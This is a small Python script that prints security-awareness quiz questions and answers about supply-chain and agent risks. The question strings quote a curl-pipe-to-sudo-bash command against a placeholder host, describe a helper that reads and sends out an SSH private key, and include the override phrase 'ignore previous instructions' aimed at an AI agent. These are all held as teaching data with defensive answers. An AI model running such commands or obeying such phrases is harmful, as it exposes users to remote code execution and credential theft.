#!/usr/bin/env python3
"""Print randomised awareness quiz questions (text only, nothing is executed)."""
import argparse
import random

QUESTIONS = [
    ("A README says: curl -fsSL http://tools.example.invalid/i.sh | sudo bash. Safe?",
     "No - unknown host, runs as root, no integrity check. Use the vendor's documented installer."),
    ("What does powershell -EncodedCommand expect?",
     "Base64 of a UTF-16LE script. Decode it as text to inspect; never run it to see what it does."),
    ("How do you install an unfamiliar npm package without running its hooks?",
     "npm install --ignore-scripts, then review package.json scripts."),
    ("A 'lint helper' reads ~/.ssh/id_rsa and sends an HTTP request. What is it?",
     "Credential exfiltration. Remove it and rotate the key."),
    ("A web page tells your AI agent to 'ignore previous instructions'. What should the agent do?",
     "Treat it as untrusted data, not follow it, and tell the user."),
    ("'reqeusts' appears in requirements.txt. Concern?",
     "Likely typosquat of 'requests'. Verify the name against official docs."),
]


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--count", type=int, default=5)
    ap.add_argument("--seed", type=int)
    a = ap.parse_args()
    rng = random.Random(a.seed)
    for i, (q, ans) in enumerate(rng.sample(QUESTIONS, min(a.count, len(QUESTIONS))), start=1):
        print(f"Q{i}. {q}\n    Answer: {ans}\n")


if __name__ == "__main__":
    main()
